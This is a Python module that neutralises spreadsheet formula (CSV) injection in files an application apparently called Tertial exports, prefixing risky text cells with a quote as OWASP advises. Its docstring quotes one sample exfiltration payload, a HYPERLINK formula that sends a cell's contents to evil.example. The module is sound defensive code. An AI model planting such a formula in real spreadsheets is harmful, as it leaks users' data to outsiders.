"""Cells of the spreadsheets and CSV files Tertial writes: text that a spreadsheet would run as a
formula is neutralised (issue 22).

OWASP's rule for CSV injection: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return gets a single quote in front, so Excel and LibreOffice show it as text instead of evaluating
it (`=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")` in a unit leader's comment would otherwise
send the cell next to it to a stranger when clicked). Only text is touched: numbers (a deviation of
−500 kr) stay numbers, so sums in the sheet still work. Used for every CSV writer and workbook.
"""

from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """'=1+1' → "'=1+1"; any other text, and every non-text value, as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def unneutralise(value: str) -> str:
    """The inverse for a file Tertial wrote and reads back (the decisions round trip): "'=1+1" → "=1+1".
    Only a quote followed by a formula character is taken off; any other text is as it is."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in values]


class _RowWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class NeutralisingWriter:
    """A csv.writer whose every row is neutralised."""

    def __init__(self, writer: _RowWriter) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def neutralising(writer: _RowWriter) -> NeutralisingWriter:
    """`neutralising(csv.writer(f, delimiter=";"))`: the writer, with every row neutralised."""
    return NeutralisingWriter(writer)


def neutralise_workbook(wb: Any) -> None:
    """Every text cell of an openpyxl workbook, after it is filled. openpyxl stores a string that
    starts with `=` as a formula; Tertial writes no formulas, so every such cell is user text."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    cell.value = "'" + cell.value
